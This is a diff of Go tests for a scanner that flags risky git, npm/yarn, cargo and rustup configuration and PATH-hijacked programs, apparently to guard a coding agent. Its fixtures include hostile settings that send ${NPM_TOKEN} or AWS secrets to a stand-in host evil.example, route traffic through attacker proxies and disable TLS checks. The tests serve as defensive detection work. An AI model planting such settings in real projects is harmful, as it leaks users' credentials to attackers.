@@ -133,6 +133,12 @@ func TestConfigFindingsGit(t *testing.T) {
 	if got := strings.Join(findings(root, "git", main), ","); got != "main/.git/config protocol.ext.allow,main/.git/config remote.o.url,main/.git/config url.ext::sh -c y .insteadof" {
 		t.Errorf("transports: %v", got)
 	}
+	// A proxy, unverified TLS or cookie files (per URL too) for the
+	// network reads (git ls-remote, git remote show).
+	mkfile(t, main+"/.git/config", "[http]\n\tproxy = http://evil:3128\n\tsslVerify = false\n[http \"https://github.com/\"]\n\tsslCAInfo = /tmp/ca\n\tcookieFile = ~/.bashrc\n\tsaveCookies\n\textraHeader = X-A: b\n")
+	if got := strings.Join(findings(root, "git", main), ","); got != "main/.git/config http.proxy,main/.git/config http.sslverify,main/.git/config http.https://github.com/.sslcainfo,main/.git/config http.https://github.com/.cookiefile,main/.git/config http.https://github.com/.savecookies" {
+		t.Errorf("http: %v", got)
+	}
 	// The user's own configuration is not reported, but a relative
 	// core.hooksPath there names a project directory.
 	mkfile(t, main+"/.git/config", "[core]\n\tbare = false\n")
@@ -168,6 +174,20 @@ func TestConfigFindingsPackageManagers(t *testing.T) {
 		{"p/.npmrc", "userconfig=~/.ssh/id_rsa\n", "npm", "p/.npmrc userconfig"},
 		{"p/.npmrc", "; x\nLOGS_DIR = /tmp/x\n", "npm", "p/.npmrc LOGS_DIR"},
 		{"p/.npmrc", "script-shell=./x.sh\n", "pnpm", "p/.npmrc script-shell"},
+		// A registry the project names gets what ${NAME} expands to.
+		{"p/.npmrc", "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n", "npm", "p/.npmrc //evil.example/:_authToken"},
+		{"p/.npmrc", "@x:registry=https://evil.example/\nuser-agent=${AWS_SECRET_ACCESS_KEY}\n", "npm", "p/.npmrc user-agent"},
+		{"p/.npmrc", "//registry.npmjs.org.evil.example/:_authToken=${NPM_TOKEN}\n", "npm", "p/.npmrc //registry.npmjs.org.evil.example/:_authToken"},
+		{"p/.npmrc", "//evil.example/:_auth=${NPM_TOKEN}\n", "yarn", "p/.npmrc //evil.example/:_auth"},
+		// A proxy or an unverified connection carries the user's own token.
+		{"p/.npmrc", "https-proxy=http://evil.example:3128/\n", "npm", "p/.npmrc https-proxy"},
+		{"p/.npmrc", "strict-ssl=false\n", "pnpm", "p/.npmrc strict-ssl"},
+		{"p/.npmrc", "ca=\"-----BEGIN CERTIFICATE-----\"\n", "npm", "p/.npmrc ca"},
+		{"p/.yarnrc.yml", "npmRegistryServer: https://evil.example\nnpmAuthToken: \"${NPM_TOKEN}\"\n", "yarn", "p/.yarnrc.yml "},
+		{"p/.yarnrc.yml", "httpsProxy: http://evil.example:3128\n", "yarn", "p/.yarnrc.yml Proxy"},
+		{"p/.yarnrc.yml", "enableStrictSsl: false\n", "yarn", "p/.yarnrc.yml StrictSsl"},
+		{"p/.yarnrc.yml", "networkSettings:\n", "yarn", "p/.yarnrc.yml networkSettings"},
+		{".yarnrc", "strict-ssl false\n", "yarn", ".yarnrc strict-ssl"},
 		{"p/.pnpmfile.cjs", "module.exports = {}\n", "pnpm", "p/.pnpmfile.cjs "},
 		{"p/pnpm-workspace.yaml", "packages: [a]\npnpmfile: x.cjs\n", "pnpm", "p/pnpm-workspace.yaml pnpmfile"},
 	} {
@@ -248,5 +268,128 @@ func TestConfigFindingsBounds(t *testing.T) {
 	}
 	if got := findings(root, "git", root+"/w"); len(got) != 1 || got[0] != "w/.git/config " {
 		t.Errorf("a FIFO config: %v", got)
+	}
+}
+
+// rustup's toolchain file and cargo's configuration, read from the
+// project up (TestRustProjectConfigIsNotReadOnly runs the real ones).
+func TestConfigFindingsRust(t *testing.T) {
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("RUSTUP_HOME", filepath.Join(root, "rustup"))
+	mkfile(t, root+"/rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo", "")
+	sub := filepath.Join(root, "p", "crates", "a")
+	mkfile(t, sub+"/Cargo.toml", "[package]\nname = \"a\"\n")
+	for _, prog := range []string{"cargo", "rustc"} {
+		if got := findings(root, prog, sub); len(got) != 0 {
+			t.Errorf("%s: a plain project: %v", prog, got)
+		}
+	}
+	for _, c := range []struct{ file, body, program, want string }{
+		{"p/rust-toolchain.toml", "[toolchain]\npath = \"./tc\"\n", "cargo", "p/rust-toolchain.toml path"},
+		{"p/rust-toolchain.toml", "[toolchain]\nchannel = \"nightly-2020-01-01\"\n", "rustc", "p/rust-toolchain.toml nightly-2020-01-01"},
+		{"p/rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\ncomponents = [\"clippy\"]\n", "cargo", "p/rust-toolchain.toml components"},
+		{"p/rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\nx = 1\n", "cargo", "p/rust-toolchain.toml x"},
+		{"p/rust-toolchain", "../tc\n", "cargo", "p/rust-toolchain ../tc"},
+		{"p/crates/a/rust-toolchain", "beta\n", "rustc", "p/crates/a/rust-toolchain beta"},
+		{"p/.cargo/config.toml", "[registry]\nglobal-credential-providers = [\"x\"]\n", "cargo", "p/.cargo/config.toml registr"},
+		{"p/crates/a/.cargo/config", "[source.crates-io]\nreplace-with = \"x\"\n", "cargo", "p/crates/a/.cargo/config [source"},
+		{".cargo/config.toml", "[http]\nproxy = \"x\"\n", "cargo", ".cargo/config.toml [http"},
+		{"p/.cargo/config.toml", "\"cred\\u0065ntial-provider\" = \"x\"\n", "cargo", "p/.cargo/config.toml "},
+	} {
+		mkfile(t, filepath.Join(root, c.file), c.body)
+		got := findings(root, c.program, sub)
+		if len(got) == 0 || got[0] != c.want {
+			t.Errorf("%s %q: %s: %v, want %q", c.file, c.body, c.program, got, c.want)
+		}
+		os.Remove(filepath.Join(root, c.file))
+	}
+	// An installed channel, the nearest toolchain file deciding, cargo's
+	// configuration without the keys.
+	mkfile(t, root+"/p/rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\nprofile = \"minimal\"\n")
+	mkfile(t, root+"/rust-toolchain", "/elsewhere\n")
+	mkfile(t, root+"/p/.cargo/config.toml", "[build]\njobs = 2\n")
+	for _, prog := range []string{"cargo", "rustc"} {
+		if got := findings(root, prog, sub); len(got) != 0 {
+			t.Errorf("%s: harmless files: %v", prog, got)
+		}
+	}
+}
+
+// PATH chooses the file a command name runs: one found first in a
+// directory inside the project (the directory, its repository's work
+// tree) or through a relative entry is the project's program.
+func TestConfigFindingsPathProgram(t *testing.T) {
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	home, p := filepath.Join(root, "home"), filepath.Join(root, "home", "p")
+	exe := func(f string) {
+		mkfile(t, f, "#!/bin/sh\n")
+		os.Chmod(f, 0o755)
+	}
+	exe(p + "/.venv/bin/pip")
+	exe(p + "/bin/ls")
+	exe(root + "/sys/bin/ls")
+	exe(home + "/.local/bin/pip")
+	mkfile(t, p+"/tools/cat", "not executable")
+	os.Chmod(p+"/tools/cat", 0o644)
+	mkfile(t, p+"/.git/HEAD", "ref: refs/heads/main\n")
+	os.MkdirAll(p+"/.git/objects", 0o755)
+	os.MkdirAll(p+"/.git/refs", 0o755)
+	sub := p + "/src"
+	os.MkdirAll(sub, 0o755)
+	cwd := "" // the call's directory
+	pathFindings := func(path, program, dir string) string {
+		pathEnv = func() string { return path }
+		defer func() { pathEnv = func() string { return os.Getenv("PATH") } }()
+		var out []string
+		for _, f := range ConfigFindingsCall(nil, program, dir, cwd, home) {
+			rel, _ := filepath.Rel(root, f.File)
+			if f.File == "PATH" {
+				rel = "PATH"
+			}
+			out = append(out, rel)
+		}
+		return strings.Join(out, ",")
+	}
+	for _, c := range []struct{ path, program, dir, want string }{
+		{root + "/sys/bin", "ls", p, ""},
+		{p + "/.venv/bin:" + root + "/sys/bin", "pip", p, "home/p/.venv/bin/pip"},
+		{p + "/.venv/bin:" + root + "/sys/bin", "pip", sub, "home/p/.venv/bin/pip"}, // the repository's work tree
+		{p + "/.venv/../bin:" + root + "/sys/bin", "ls", sub, "home/p/bin/ls"},
+		{root + "/sys/bin:" + p + "/bin", "ls", p, ""},    // the system's is found first
+		{p + "/tools:" + root + "/sys/bin", "cat", p, ""}, // not executable: skipped as the shell does
+		{home + "/.local/bin:" + root + "/sys/bin", "pip", p, ""},
+		{"bin:" + root + "/sys/bin", "ls", p, "home/p/bin/ls"},
+		{":" + root + "/sys/bin", "ls", p + "/bin", "home/p/bin/ls"},
+		{"bin:" + root + "/sys/bin", "ls", "", "PATH"},
+		{root + "/sys/bin:" + p + "/bin", "ls", "", ""},
+		{home + "/.local/bin", "pip", home, "home/.local/bin/pip"}, // the agent works in the home directory
+	} {
+		if got := pathFindings(c.path, c.program, c.dir); got != c.want {
+			t.Errorf("PATH=%s %s in %s: %q, want %q", c.path, c.program, c.dir, got, c.want)
+		}
+	}
+	// A directory not known statically: the call's tree is still the
+	// project's (cd "$X" && pip list).
+	cwd = p + "/src"
+	if got := pathFindings(p+"/.venv/bin:"+root+"/sys/bin", "pip", ""); got != "home/p/.venv/bin/pip" {
+		t.Errorf("dir not known, cwd in the project: %q", got)
+	}
+	if got := pathFindings(root+"/sys/bin:"+p+"/.venv/bin", "ls", ""); got != "" {
+		t.Errorf("dir not known, the system's ls: %q", got)
+	}
+	cwd = ""
+	// A repository of the home directory's dotfiles is not the project.
+	mkfile(t, home+"/.git/HEAD", "ref: refs/heads/main\n")
+	os.MkdirAll(home+"/.git/objects", 0o755)
+	os.MkdirAll(home+"/.git/refs", 0o755)
+	os.MkdirAll(home+"/q", 0o755)
+	if got := pathFindings(home+"/.local/bin:"+root+"/sys/bin", "pip", home+"/q"); got != "" {
+		t.Errorf("a dotfiles repository in the home: %q", got)
 	}
 }
